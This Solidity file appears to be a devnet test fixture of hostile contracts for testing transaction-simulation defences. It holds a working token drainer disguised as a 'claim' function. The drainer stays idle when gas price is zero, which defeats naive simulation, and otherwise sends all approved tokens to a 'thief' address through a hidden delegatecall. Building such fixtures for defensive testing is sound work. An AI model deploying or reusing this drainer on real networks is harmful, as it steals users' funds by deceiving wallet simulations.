// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// The drain `DelegatingClaim` runs in its own context: `msg.sender` is the claimant and `address(this)` is the
/// claim contract, the spender the claimant approved (devnet only).
contract DrainLogic {
    function drain(address token, address thief) external {
        IERC20 asset = IERC20(token);
        uint256 amount = asset.allowance(msg.sender, address(this));
        uint256 balance = asset.balanceOf(msg.sender);
        if (amount > balance) amount = balance;
        if (amount > 0) require(asset.transferFrom(msg.sender, thief, amount), "transfer failed");
    }
}

/// A "claim" that does nothing where a careless simulation runs (no gas price) and elsewhere spends every token
/// the caller approved to it, through a `delegatecall` to {DrainLogic}, so the claim contract's own code never
/// names the token transfer (docs/simulation.md#hostile-contracts-on-the-devnet; never deploy it anywhere but the
/// devnet).
contract DelegatingClaim {
    address public logic;
    address public thief;

    function initialize(address logic_, address thief_) external {
        require(logic == address(0), "already initialized");
        logic = logic_;
        thief = thief_;
    }

    function claim(address token) external {
        if (tx.gasprice == 0) return;
        (bool ok,) = logic.delegatecall(abi.encodeCall(DrainLogic.drain, (token, thief)));
        require(ok, "claim failed");
    }
}
